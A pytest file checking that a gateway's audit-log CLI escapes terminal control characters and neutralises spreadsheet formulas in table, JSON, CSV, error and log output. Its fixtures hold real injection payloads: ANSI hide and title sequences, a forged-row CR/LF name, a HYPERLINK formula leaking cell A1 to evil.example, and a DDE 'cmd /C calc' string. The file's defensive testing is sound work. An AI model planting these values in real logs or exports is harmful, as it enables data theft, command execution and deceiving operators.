"""What anyone can put in the audit log cannot drive an operator's terminal or spreadsheet.

A failed login records the user name it claimed, unauthenticated; the upstream's answer gives
``app`` and ``clientId``. The record keeps them exactly; every output for people escapes their
control and format characters, JSON writes them as JSON escapes (still exact), and CSV
neutralises cells a spreadsheet would run.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import sys
import unicodedata
from pathlib import Path

import pytest
import structlog
from aiohttp import web
from audit_support import tampering
from helpers import SAMPLE_PATH, GatewayFactory, Peer, basic, make_config, rows

from gateway.audit.chain import ChainKey
from gateway.audit.fingerprint import fingerprint, redacted
from gateway.audit.formats import FORMULA_STARTS, RecordStream, spreadsheet_safe
from gateway.audit.record import AuditRecord
from gateway.audit.sqlite_file import SQLiteAppender, prepare
from gateway.cli import main
from gateway.logs import configure_logging, flush_logs, get_logger
from gateway.terminal import UNSAFE_CATEGORIES, printable, printable_json

HIDE = "\x1b[8m"
"""Conceals everything printed after it: the rows of older records, in a table."""
FORGED_ROW = "evil\r\n1   2026-01-01  deleted    admin"
"""A claimed user name (no ':', which would end it) that would print as a row of its own."""
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
REVERSED = "\u202etxt.exe"
TITLE = "\x1b]0;pwned\x07\x9b2J\u2028\U000e0041"
"""An xterm title sequence, an 8-bit CSI (C1), a line separator and a Unicode tag character."""


def visible(text: str) -> bool:
    """True when nothing in ``text`` but its line breaks would act on a terminal."""
    return not any(unicodedata.category(c) in UNSAFE_CATEGORIES for c in text.replace("\n", ""))


def claimed(user: str) -> dict[str, str]:
    return {"Authorization": "Basic " + base64.b64encode(f"{user}:wrong".encode()).decode()}


@pytest.fixture
async def database(tmp_path: Path, gateway: GatewayFactory, peer: Peer) -> Path:
    """A log written by a real gateway: two failed logins with hostile names, one deletion whose
    snapshot carries hostile app and client id."""

    async def answer(request: web.Request) -> web.Response:
        return web.json_response(
            {"app": FORMULA, "clientId": REVERSED + TITLE, "token": "x" * 20, "note": "-2+3+cmd|' /C calc'!A0"}
        )

    peer.respond = answer
    client = await gateway(make_config(tmp_path, upstream=peer.url, throttle={"max_failures": 0}))
    for user in (HIDE, FORGED_ROW):
        assert 401 == (await client.delete(SAMPLE_PATH, headers=claimed(user))).status
    assert 200 == (await client.delete(SAMPLE_PATH, headers=basic("myname"))).status
    await client.close()
    return tmp_path / "audit.db"


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    status = main(list(args))
    out, err = capsys.readouterr()
    return status, out, err


def test_the_record_keeps_the_exact_values(database: Path) -> None:
    stored = rows(database)
    assert [HIDE, FORGED_ROW] == [row["actor"] for row in stored if row["outcome"] == "denied"]
    # The consumer key is a credential: kept as its fingerprint (its hint, hostile or not, in the snapshot).
    assert (FORMULA, fingerprint(REVERSED + TITLE)) == (stored[-1]["app"], stored[-1]["client_id"])


def test_the_table_escapes_so_no_row_is_hidden_or_forged(database: Path, capsys: pytest.CaptureFixture[str]) -> None:
    status, out, _ = run(capsys, "audit", "query", "--db", str(database))
    assert 0 == status and visible(out)
    lines = out.splitlines()
    assert 2 + 4 == len(lines)  # header, rule, and one line per record: no forged row
    assert ["deleted", "pending", "denied", "denied"] == [line.split()[2] for line in lines[2:]]
    assert "\\u001b[8m" in lines[5] and "evil\\u000d\\u000a1   2026-01-01  deleted    admin" in lines[4]
    assert "\\u202etxt.exe\\u001b]0;pwned\\u0007\\u009b2J\\u2028\\U000e0041" not in out  # client_id is not a column
    assert FORMULA in lines[2]  # a formula is harmless on a terminal: shown as it is


def test_stats_escape_too(database: Path, capsys: pytest.CaptureFixture[str]) -> None:
    status, out, _ = run(capsys, "audit", "stats", "--db", str(database), "--by", "actor")
    assert 0 == status and visible(out)
    assert ["\\u001b[8m", "evil\\u000d\\u000a1   2026-01-01  deleted    admin"] == sorted(
        line.rsplit(None, 1)[0].rstrip() for line in out.splitlines()[2:] if not line.startswith("myname")
    )


@pytest.mark.parametrize(
    "command",
    [
        ("audit", "query", "--format", "json"),
        ("audit", "query", "--format", "jsonl"),
        ("audit", "export"),
        ("audit", "show", "4"),
        ("audit", "show", "2"),
    ],
)
def test_json_outputs_are_exact_and_escaped(
    database: Path, capsys: pytest.CaptureFixture[str], command: tuple[str, ...]
) -> None:
    """JSON escapes are safe: the output holds no raw control or format character, and decodes
    to the exact stored values. (`audit export` to a file or pipe, as here, leaves the ones JSON
    itself does not escape: see the next test.)"""
    status, out, _ = run(capsys, *command, "--db", str(database))
    assert 0 == status
    assert visible(out) or command == ("audit", "export")
    assert "\x1b" not in out and "\r" not in out  # JSON's own escapes, whatever the output
    if command[1] == "show":
        records = [json.loads(out)]
    elif "json" in command:
        records = json.loads(out)
    else:
        records = [
            json.loads(line) for line in out.split("\n") if line
        ]  # not splitlines: U+2028 is no line end in JSON
    stored = {row["id"]: row for row in rows(database)}
    for record in records:
        assert (stored[record["id"]]["actor"], stored[record["id"]]["app"], stored[record["id"]]["client_id"]) == (
            record["actor"],
            record["app"],
            record["client_id"],
        )
    if command[-1] == "4":
        assert (FORMULA, redacted(REVERSED + TITLE)) == (
            records[0]["snapshot"]["app"],
            records[0]["snapshot"]["clientId"],
        )


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(database: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for command in (("audit", "export", "--format", "csv"), ("audit", "query", "--format", "csv")):
        status, out, _ = run(capsys, *command, "--db", str(database))
        assert 0 == status
        records = {row["id"]: row for row in csv.DictReader(io.StringIO(out, newline=""))}
        assert ("'" + FORMULA, fingerprint(REVERSED + TITLE), HIDE, FORGED_ROW) == (
            records["4"]["app"],
            records["4"]["client_id"],
            records["1"]["actor"],
            records["2"]["actor"],
        )
        assert "'-2+3+cmd" not in out  # inside the snapshot's JSON the formula is not at a cell's start


def test_an_export_escapes_on_a_terminal_and_writes_orjson_bytes_elsewhere() -> None:
    record = AuditRecord(
        "r",
        "t",
        HIDE + REVERSED + TITLE,
        None,
        "DELETE",
        None,
        None,
        None,
        "deleted",
        snapshot='{"app":"' + REVERSED + '"}',
        id=1,
    )
    for_terminal, for_file = io.StringIO(), io.StringIO()
    RecordStream("jsonl", for_terminal).write_all([record])
    RecordStream("jsonl", for_file, for_terminal=False).write_all([record])
    assert visible(for_terminal.getvalue()) and not visible(for_file.getvalue())
    assert json.loads(for_terminal.getvalue()) == json.loads(for_file.getvalue())
    exported = json.loads(for_file.getvalue())
    assert (HIDE + REVERSED + TITLE, {"app": REVERSED}) == (exported["actor"], exported["snapshot"])


@pytest.mark.parametrize("start", [*FORMULA_STARTS, ""])
def test_spreadsheet_safe_follows_the_owasp_rule(start: str) -> None:
    """Cells starting with = + - @ tab or CR get a leading quote; numbers and other text stay."""
    cell = start + "SUM(A1:A9)"
    assert [f"'{cell}" if start else cell, -1, 2.5, None, "a=b"] == spreadsheet_safe((cell, -1, 2.5, None, "a=b"))


def test_every_unsafe_character_is_escaped_and_nothing_else() -> None:
    """Every code point of categories Cc, Cf, Cs, Zl and Zp in this Python's Unicode database."""
    unsafe = "".join(chr(c) for c in range(sys.maxunicode + 1) if unicodedata.category(chr(c)) in UNSAFE_CATEGORIES)
    assert {
        "\x1b",
        "\r",
        "\n",
        "\x7f",
        "\x85",
        "\x9b",
        "\u200b",
        "\u202e",
        "\u2066",
        "\u2069",
        "\u2028",
        "\ufeff",
        "\U000e0041",
        "\ud800",
    } <= set(unsafe)
    escaped = printable(unsafe)
    assert visible(escaped) and escaped.isascii()
    assert unsafe == escaped.encode().decode("unicode_escape")  # \uXXXX and \UXXXXXXXX, as in Python and TOML
    plain = "admin é ü 名前 …c7vC 🙂 \u00a0x"
    assert plain == printable(plain)
    document = json.dumps(
        {"v": "".join(c for c in unsafe if unicodedata.category(c) != "Cs")}, ensure_ascii=False, indent=2
    )
    assert visible(printable_json(document))
    assert json.loads(document) == json.loads(printable_json(document))


def test_error_lines_escape_what_they_quote(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    status, _, err = run(capsys, "audit", "show", "1", "--db", str(tmp_path / "log\x1b[2J\r\n.db"))
    assert (2, f"gateway: error: --db: no audit database at {tmp_path}/log\\u001b[2J\\u000d\\u000a.db\n") == (
        status,
        err,
    )


def test_verify_and_head_escape_what_they_print(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "audit.db"
    prepare(path, key=ChainKey(), writable=True)
    appender = SQLiteAppender(path, ChainKey())
    appender.append([AuditRecord("r", "2026-01-01T00:00:00.000Z", "a", None, "DELETE", "o", None, None, "denied")])
    appender.close()
    with pytest.raises(SystemExit) as refused:
        main(["audit", "verify", "--db", str(path), "--expect-head", HIDE])
    err = capsys.readouterr().err
    assert (2, True) == (refused.value.code, visible(err))
    assert err.endswith("error: argument --expect-head: '\\x1b[8m' is not a head hash (64 hexadecimal digits)\n")
    with pytest.raises(SystemExit):
        main(["audit", "verify", "--db", str(path), HIDE])  # argparse quotes unknown arguments as they are: not here
    assert visible(capsys.readouterr().err)
    with tampering(path) as db:
        db.execute("UPDATE audit_events SET hash = ?", (TITLE,))
    status, out, _ = run(capsys, "audit", "head", "--db", str(path))
    assert (0, "1 \\u001b]0;pwned\\u0007\\u009b2J\\u2028\\U000e0041\n") == (status, out)


@pytest.mark.parametrize("format", ["console", "json"])
def test_log_lines_escape_claimed_user_names(format: str) -> None:
    stream = io.StringIO()
    configure_logging(format, "info", stream)
    try:
        get_logger().info("request", actor=HIDE + REVERSED + TITLE)
        flush_logs()
    finally:
        structlog.reset_defaults()
    assert visible(stream.getvalue()) and "\\u001b[8m" in stream.getvalue()
    if format == "json":
        assert HIDE + REVERSED + TITLE == json.loads(stream.getvalue())["actor"]
